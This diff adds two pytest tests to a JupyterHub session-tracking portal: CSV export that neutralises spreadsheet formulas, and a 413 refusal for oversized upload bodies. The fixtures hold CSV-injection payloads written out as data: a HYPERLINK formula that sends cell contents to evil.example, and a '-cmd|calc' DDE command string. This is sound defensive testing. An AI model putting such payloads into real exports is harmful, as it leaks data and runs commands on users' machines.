@@ -297,6 +297,72 @@ async def test_sessions_filters_pagination_and_csv(settings_factory, tx_sessionm
             assert (await client.get("/api/sessions", params=bad, headers=AUTH)).status_code == 422
 
 
+async def test_csv_export_streams_every_row_and_defuses_formulas(settings_factory, tx_sessionmaker, monkeypatch):
+    """All matching rows (fetched a few at a time: no silent cut), and text cells starting like a
+    spreadsheet formula (=, +, -, @) prefixed with an apostrophe; numbers stay numbers."""
+    import csv
+    import io
+
+    from labhub_portal.api import sessions as sessions_api
+
+    monkeypatch.setattr(sessions_api, "CSV_FETCH", 100)
+    monkeypatch.setattr(sessions_api, "CSV_CHUNK", 4096)
+    now = dt.datetime.now(UTC).replace(microsecond=0)
+    async with tx_sessionmaker() as s:
+        async with s.begin():
+            dept = Department(name="+Physics")
+            s.add(dept)
+            await s.flush()
+            s.add(User(username="mallory", display_name='=HYPERLINK("http://evil.example/?"&A1,"x")',
+                       department_id=dept.id))
+            s.add_all([ContainerSession(
+                pod_uid=f"u{i}", pod_name=f"jupyter-u{i}", server_name="@SUM(1)" if i == 0 else "", namespace="jhub",
+                username="mallory", image="-cmd|calc" if i == 0 else "img", cpu_request=1, gpu_request=0,
+                gpu_limit=0, memory_request=2**30, started_at=now - dt.timedelta(hours=2, seconds=i),
+                first_seen_at=now - dt.timedelta(hours=2), last_seen_at=now - dt.timedelta(hours=1),
+                ended_at=now - dt.timedelta(hours=1), end_reason="pod_gone", unobserved_seconds=0,
+                change_seq=i + 1, created_at=now, updated_at=now) for i in range(1050)])
+    async with running_app(settings_factory(), sessionmaker=tx_sessionmaker) as (_app, client):
+        resp = await client.get("/api/sessions", params={"format": "csv"}, headers=AUTH)
+        assert resp.status_code == 200
+        rows = list(csv.DictReader(io.StringIO(resp.text)))
+    assert len(rows) == 1050 and len({r["pod_uid"] for r in rows}) == 1050
+    first = next(r for r in rows if r["pod_uid"] == "u0")
+    assert first["display_name"] == """'=HYPERLINK("http://evil.example/?"&A1,"x")"""
+    assert first["department"] == "'+Physics" and first["image"] == "'-cmd|calc" and first["server_name"] == "'@SUM(1)"
+    assert first["cpu_request"] == "1.0" or first["cpu_request"] == "1"
+    assert float(first["hours"]) == pytest.approx(1.0, abs=0.01)
+
+
+async def test_request_bodies_over_the_limit_get_413_and_change_nothing(settings_factory, tx_sessionmaker):
+    """max_request_bytes: a declared (Content-Length) or streamed (chunked) body over it is refused
+    with 413 naming the body, before the route acts; a body within it still works."""
+    limit = 64 * 1024
+    big = b"username,department\n" + b"".join(b"user%06d,Physics\n" % i for i in range(6000))
+    assert len(big) > limit
+    async with running_app(settings_factory(max_request_bytes=limit), sessionmaker=tx_sessionmaker) as (_app, client):
+        resp = await client.post("/api/users/import", files={"file": ("users.csv", big, "text/csv")}, headers=AUTH)
+        assert resp.status_code == 413, resp.text
+        assert resp.json()["detail"][0]["field"] == "body" and str(limit) in resp.json()["detail"][0]["msg"]
+
+        form = (b'--x\r\nContent-Disposition: form-data; name="file"; filename="users.csv"\r\n'
+                b"Content-Type: text/csv\r\n\r\n" + big + b"\r\n--x--\r\n")
+
+        async def chunks():  # no Content-Length: the limit counts what arrives
+            for start in range(0, len(form), 8192):
+                yield form[start:start + 8192]
+        resp = await client.post("/api/users/import", content=chunks(), headers={
+            **AUTH, "Content-Type": "multipart/form-data; boundary=x"})
+        assert resp.status_code == 413, resp.text
+        resp = await client.post("/api/users/import", content=b"{}", headers={**AUTH, "Content-Length": "-1"})
+        assert resp.status_code in (400, 413), resp.text
+        async with tx_sessionmaker() as s:
+            assert (await s.execute(select(User))).scalars().all() == []
+        ok = await client.post("/api/users/import", files={"file": ("u.csv", b"username,department\nbob,Physics\n")},
+                               headers=AUTH)
+        assert ok.status_code == 200, ok.text
+
+
 def test_settings_refuse_unsafe_combinations(monkeypatch):
     base = {"_env_file": None, "database_url": "postgresql://u@localhost/db"}
     with pytest.raises(ValidationError, match="neither PORTAL_TOKEN nor JupyterHub OAuth"):
